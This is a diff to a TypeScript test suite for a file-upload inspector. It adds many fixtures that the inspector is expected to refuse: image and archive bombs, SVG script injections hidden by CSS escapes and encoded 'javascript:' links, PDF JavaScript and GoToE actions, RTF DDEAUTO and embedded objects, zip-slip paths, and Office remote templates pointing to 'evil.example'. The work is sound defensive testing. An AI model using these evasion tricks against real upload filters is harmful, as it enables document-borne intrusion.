@@ -28,6 +28,8 @@ async function inspect(name: string, bytes: Buffer | string, options: InspectFil
   }
 }
 
+const manyFrames = Array.from({ length: 21 }, () => [7_000, 7_000] as const)
+const template = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/>'
 const withoutLocator = (zip: Buffer): Buffer => zip.fill(0, zip.length - 42, zip.length - 22)
 
 describe('inspectFile', () => {
@@ -65,7 +67,81 @@ describe('inspectFile', () => {
     ],
     ['a.zip', make.zip([], { comment: 'empty' }), 'zip'],
     ['a.zip', make.zip([{ name: 'a.txt', content: 'hello' }], { wide: true }), 'zip'],
+    [
+      'a.zip',
+      make.zip([
+        { name: 'a', content: 'hello', streamed: true },
+        { name: 'b', content: 'x', streamed: true },
+      ]),
+      'zip',
+    ],
     ['a.gz', make.gzip('hello'), 'gzip'],
+    ['b.png', make.png(9, 11, { interlaced: true, rows: Buffer.alloc(9 * 11 * 3 + 22) }), 'png'],
+    [
+      'c.png',
+      make.png(4, 4, {
+        before: [make.pngFrame(4, 4)],
+        after: [make.pngFrame(2, 2), make.pngPacked('fdAT', make.pngRows(2, 2))],
+      }),
+      'png',
+    ],
+    [
+      'd.png',
+      make.png(4, 4, {
+        before: (['zTXt', 'iTXt', 'iCCP'] as const).map((type) => make.pngPacked(type, Buffer.alloc(999))),
+      }),
+      'png',
+    ],
+    [
+      'b.gif',
+      make.animatedGif(8, 8, [
+        [8, 8],
+        [4, 4],
+      ]),
+      'gif',
+    ],
+    ['c.gif', make.gif().subarray(0, -1), 'gif'],
+    [
+      'b.webp',
+      make.animatedWebp([
+        [8, 8],
+        [8, 8],
+      ]),
+      'webp',
+    ],
+    ['b.jpg', make.jpegScans(12), 'jpeg'],
+    [
+      'c.tiff',
+      make.tiffPages([
+        [3, 5],
+        [4, 4],
+      ]),
+      'tiff',
+    ],
+    ['b.avif', make.avifSequence(100, 100), 'avif'],
+    [
+      'b.pdf',
+      make.pdf('/Outlines << /First 5 0 R >>', [
+        Buffer.from('8 0 obj <</Filter/DCTDecode /N 3>> stream\nx endstream endobj'),
+      ]),
+      'pdf',
+    ],
+    ['b.svg', '<?xml version="1.0" encoding="UTF-8"?>\n<svg><style>.a\\:b{fill:url( #g )}</style></svg>', 'svg'],
+    [
+      'b.rtf',
+      '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "https://example.com"}} {\\pict\\pngblip 89}  an objdata of DDE }',
+      'rtf',
+    ],
+    [
+      'b.docx',
+      make.office('word', [
+        {
+          name: 'word/_rels/document.xml.rels',
+          content: '<Relationship Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/>',
+        },
+      ]),
+      'docx',
+    ],
     ['a.mp3', Buffer.from('ID3\x04'), 'mp3'],
     ['a.mp3', Buffer.from('fffb9064', 'hex'), 'mp3'],
     ['a.wav', Buffer.from('RIFF\0\0\0\0WAVEfmt '), 'wav'],
@@ -144,11 +220,120 @@ describe('inspectFile', () => {
     ['a flood of pixels, BMP', 'a.bmp', make.bmp(30_000, -30_000), 'too_many_pixels'],
     ['a flood of pixels, TIFF', 'a.tiff', make.tiff(1_000_000, 1_000_000), 'too_many_pixels'],
     ['a flood of pixels, AVIF', 'a.avif', make.avif(65_536, 65_536), 'too_many_pixels'],
+    ['an icon with a large picture far inside', 'a.ico', make.pngIcon(50_000, 50_000, 70_000), 'too_many_pixels'],
+    ['an icon whose bitmap is larger than it says', 'a.ico', make.bitmapIcon(20_000, 20_000), 'too_many_pixels'],
+    [
+      'a GIF whose frame is larger than its canvas',
+      'a.gif',
+      make.animatedGif(8, 8, [
+        [8, 8],
+        [60_000, 60_000],
+      ]),
+      'too_many_pixels',
+    ],
+    ['a GIF of very many large frames', 'a.gif', make.animatedGif(7_000, 7_000, manyFrames), 'too_many_pixels'],
+    [
+      'a WebP whose picture is larger than its canvas',
+      'a.webp',
+      make.extendedWebp([1, 1], [16_000, 16_000]),
+      'too_many_pixels',
+    ],
+    ['a WebP of very many large frames', 'a.webp', make.animatedWebp(manyFrames), 'too_many_pixels'],
+    [
+      'a TIFF whose second page is large',
+      'a.tiff',
+      make.tiffPages([
+        [3, 5],
+        [90_000, 90_000],
+      ]),
+      'too_many_pixels',
+    ],
+    [
+      'a TIFF whose pages go in a circle',
+      'a.tiff',
+      make.tiffPages(
+        [
+          [3, 5],
+          [3, 5],
+        ],
+        true,
+      ),
+      'broken',
+    ],
+    ['a JPEG with a second, larger frame header', 'a.jpg', make.jpegScans(1, [60_000, 60_000]), 'too_many_pixels'],
+    ['a JPEG in thousands of scans', 'a.jpg', make.jpegScans(2_000), 'image_bomb'],
+    [
+      'an AVIF that shows another size before',
+      'a.avif',
+      make.avif(60_000, 60_000, 'avif', make.freeBox(99)),
+      'too_many_pixels',
+    ],
+    [
+      'an AVIF whose index stands far inside',
+      'a.avif',
+      make.avif(60_000, 60_000, 'avif', make.freeBox(99_999)),
+      'too_many_pixels',
+    ],
+    ['a large sequence of AVIF', 'a.avif', make.avifSequence(60_000, 60_000), 'too_many_pixels'],
+    [
+      'a PNG of which more unpacks than it needs',
+      'a.png',
+      make.png(2, 2, { rows: Buffer.alloc(3_000_000) }),
+      'image_bomb',
+    ],
+    ['a PNG of one byte too many', 'a.png', make.png(2, 2, { rows: Buffer.alloc(15) }), 'image_bomb'],
+    [
+      'an interlaced PNG of one byte too many',
+      'a.png',
+      make.png(9, 11, { interlaced: true, rows: Buffer.alloc(9 * 11 * 3 + 23) }),
+      'image_bomb',
+    ],
+    [
+      'a bomb in the frame of a PNG',
+      'a.png',
+      make.png(4, 4, { after: [make.pngFrame(2, 2), make.pngPacked('fdAT', Buffer.alloc(3_000_000))] }),
+      'image_bomb',
+    ],
+    [
+      'a bomb in a text of a PNG',
+      'a.png',
+      make.png(4, 4, { before: [make.pngPacked('zTXt', Buffer.alloc(9_000_000))] }),
+      'image_bomb',
+    ],
+    [
+      'a bomb in an international text of a PNG',
+      'a.png',
+      make.png(4, 4, { after: [make.pngPacked('iTXt', Buffer.alloc(9_000_000))] }),
+      'image_bomb',
+    ],
+    [
+      'a bomb in the profile of a PNG',
+      'a.png',
+      make.png(4, 4, { before: [make.pngPacked('iCCP', Buffer.alloc(9_000_000))] }),
+      'image_bomb',
+    ],
+    ['a PNG whose rows cannot be unpacked', 'a.png', Buffer.from(make.png()).fill(255, 43, 48), 'broken'],
     ['a picture without size', 'a.png', make.png(0, 5), 'broken'],
     ['a picture cut short', 'a.jpg', make.jpeg().subarray(0, 100), 'broken'],
     ['a script in an SVG', 'a.svg', make.svg('<script>x</script>'), 'scripted'],
     ['a script of another prefix', 'a.svg', make.svg('<svg:script>x</svg:script>'), 'scripted'],
     ['a handler in an SVG', 'a.svg', make.svg('', 'onload = "x"'), 'scripted'],
+    ['a handler behind many spaces', 'a.svg', make.svg('', `onload${' '.repeat(99)}\n= "x"`), 'scripted'],
+    ['an address behind many spaces', 'a.svg', make.svg(`<a href${'\n'.repeat(99)}= "https://x"/>`), 'scripted'],
+    ['a style that spells a rule by escapes', 'a.svg', make.svg('<style>@\\69mport "//x"</style>'), 'scripted'],
+    [
+      'a style that spells a function by escapes',
+      'a.svg',
+      make.svg('<style>a{fill:u\\000072 l("//x")}</style>'),
+      'scripted',
+    ],
+    [
+      'an address by a number of many digits',
+      'a.svg',
+      make.svg('<g style="fill:&#x0000000000075;rl(//x)"/>'),
+      'scripted',
+    ],
+    ['an SVG that declares another encoding', 'a.svg', '<?xml version="1.0" encoding="utf-7"?><svg/>', 'scripted'],
     ['a page in an SVG', 'a.svg', make.svg('<foreignObject><body/></foreignObject>'), 'scripted'],
     ['a link to a script', 'a.svg', make.svg('<a xlink:href="java&#x0a;script:x">'), 'scripted'],
     ['a hidden link to a script', 'a.svg', make.svg('<a href="&#106;avascript:x">'), 'scripted'],
@@ -168,6 +353,63 @@ describe('inspectFile', () => {
       make.pdf('', [Buffer.alloc(1_200_000, 10), Buffer.from('/JavaScript ')]),
       'scripted',
     ],
+    [
+      'JavaScript in an object stream that does not say what it is',
+      'a.pdf',
+      make.pdf('', [make.objectStream('<< /S /JavaScript >>', '/Filter /FlateDecode', '7 0 R')]),
+      'scripted',
+    ],
+    [
+      'JavaScript in an object stream by codes',
+      'a.pdf',
+      make.pdf('', [make.objectStream('<< /S /JavaScript >>', '/F#69lter /FlateDecode', '/Obj#53tm')]),
+      'scripted',
+    ],
+    [
+      'JavaScript in an object stream with a decoy in its dictionary',
+      'a.pdf',
+      make.pdf('', [make.objectStream('<< /S /JavaScript >>', '/Pad (endobj endstream) /Filter /FlateDecode')]),
+      'scripted',
+    ],
+    [
+      'JavaScript in an object stream with a long dictionary',
+      'a.pdf',
+      make.pdf('', [make.objectStream('<< /S /JavaScript >>', `/Pad (${'a'.repeat(6_000)}) /Filter /FlateDecode`)]),
+      'scripted',
+    ],
+    [
+      'an object stream with a dictionary without end',
+      'a.pdf',
+      make.pdf('', [make.objectStream('x', `/Pad (${'a'.repeat(70_000)}) /Filter /FlateDecode`)]),
+      'unreadable',
+    ],
+    [
+      'JavaScript behind much else in an object stream',
+      'a.pdf',
+      make.pdf('', [make.objectStream(`${'0123456789 '.repeat(20_000)}<< /S /JavaScript >>`)]),
+      'scripted',
+    ],
+    [
+      'very many object streams',
+      'a.pdf',
+      make.pdf('', Array<Buffer>(10_002).fill(make.objectStream('x'))),
+      'archive_bomb',
+    ],
+    ['a flood of names of object streams', 'a.pdf', make.pdf('', [Buffer.alloc(2_000_000, '/ObjStm ')]), 'unreadable'],
+    ['a flood of dictionaries within texts', 'a.pdf', make.pdf('', [Buffer.alloc(2_000_000, 'obj<<(')]), 'unreadable'],
+    ['a movie that runs a script', 'a.pdf', make.pdf('/AA << /S /Rendition /JS (x) >>'), 'scripted'],
+    ['a jump into another file', 'a.pdf', make.pdf('/AA << /S /GoToE /F (\\\\\\\\evil\\\\x) >>'), 'scripted'],
+    ['an object in RTF', 'a.rtf', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}', 'macro'],
+    ['an object in RTF across two pieces', 'a.rtf', `{\\rtf1${' '.repeat(65_520)}\\ob\r\njdata 01}`, 'macro'],
+    ['a program started by RTF', 'a.rtf', '{\\rtf1{\\field{\\*\\fldinst {\\fs20 DDEAUTO c:/x }}}}', 'macro'],
+    ['a template of RTF', 'a.rtf', '{\\rtf1{\\*\\template http://x}}', 'macro'],
+    [
+      'entities in XML, far inside',
+      'a.xml',
+      `<!--${' '.repeat(65_530)}--><!DOCTYPE x [<!ENTITY a "b">]><x/>`,
+      'scripted',
+    ],
+    ['an extension before a semicolon', 'a.asp;.jpg', make.jpeg(), 'double_extension'],
     ['a packing that nobody uses', 'a.pdf', make.pdf('', [make.objectStream('', '/Filter /LZWDecode')]), 'unreadable'],
     [
       'two packings',
@@ -193,6 +435,46 @@ describe('inspectFile', () => {
       ]),
       'remote_template',
     ],
+    [
+      'a template from elsewhere in UTF-16',
+      'a.docx',
+      make.office('word', [
+        { name: 'word/_rels/settings.xml.rels', content: Buffer.from(`\ufeff${template}`, 'utf16le') },
+      ]),
+      'remote_template',
+    ],
+    [
+      'a template from elsewhere, big-endian and without a mark',
+      'a.docx',
+      make.office('word', [
+        { name: 'word/_rels/settings.xml.rels', content: Buffer.from(template, 'utf16le').swap16() },
+      ]),
+      'remote_template',
+    ],
+    [
+      'a template from elsewhere by references',
+      'a.docx',
+      make.office('word', [
+        { name: 'word/_rels/settings.xml.rels', content: template.replace('Ext', '&#x000000045;xt') },
+      ]),
+      'remote_template',
+    ],
+    [
+      'an object from elsewhere in a header',
+      'a.docx',
+      make.office('word', [
+        { name: 'word/_rels/header1.xml.rels', content: template.replace('attachedTemplate', 'oleObject') },
+      ]),
+      'remote_template',
+    ],
+    [
+      'relationships that are too large to be looked into',
+      'a.docx',
+      make.office('word', [
+        { name: 'word/_rels/settings.xml.rels', content: `<!--${' '.repeat(1_100_000)}-->${template}`, stored: true },
+      ]),
+      'unreadable',
+    ],
     ['a macro of OpenDocument', 'a.odt', make.openDocument('text', [{ name: 'Basic/Standard/Module1.xml' }]), 'macro'],
     ['a macro in an old document', 'a.doc', make.ole(Buffer.from('_VBA_PROJECT', 'utf16le')), 'macro'],
     ['an entry that leaves its folder', 'a.zip', make.zip([{ name: '../../etc/passwd' }]), 'zip_slip'],
@@ -213,6 +495,24 @@ describe('inspectFile', () => {
     ],
     ['another name in the header', 'a.zip', make.zip([{ name: 'a.txt', localName: 'a.exe' }]), 'archive_tricks'],
     [
+      'another size in the header',
+      'a.zip',
+      make.zip([{ name: 'a', content: 'hello', localSize: 4 }]),
+      'archive_tricks',
+    ],
+    [
+      'an entry that the directory does not name',
+      'a.zip',
+      make.zip([{ name: 'a', gap: make.zip([{ name: 'hidden' }]).subarray(0, 38) }, { name: 'b' }]),
+      'archive_tricks',
+    ],
+    [
+      'an entry that the directory does not name, at the end',
+      'a.zip',
+      make.zip([{ name: 'a', gap: make.zip([{ name: 'hidden' }]).subarray(0, 38) }]),
+      'archive_tricks',
+    ],
+    [
       'bytes before it',
       'a.zip',
       Buffer.concat([Buffer.from('PK\x03\x04'), make.zip([{ name: 'a' }])]),
@@ -223,7 +523,9 @@ describe('inspectFile', () => {
     ['an archive cut short', 'a.zip', make.zip([{ name: 'a', content: 'x' }]).subarray(0, 40), 'broken'],
     ['damaged bytes', 'a.gz', Buffer.concat([make.gzip('hello').subarray(0, 12), Buffer.alloc(20, 255)]), 'broken'],
   ])('[VA-6] refuses %s', async (_what, name, bytes, reason) => {
-    expect(await inspect(name, bytes, { archive: { maxUnpackedSize: '256kb' } })).toBe(reason)
+    expect(await inspect(name, bytes, { archive: { maxUnpackedSize: name.endsWith('docx') ? '2mb' : '256kb' } })).toBe(
+      reason,
+    )
   })
 
   it.each([
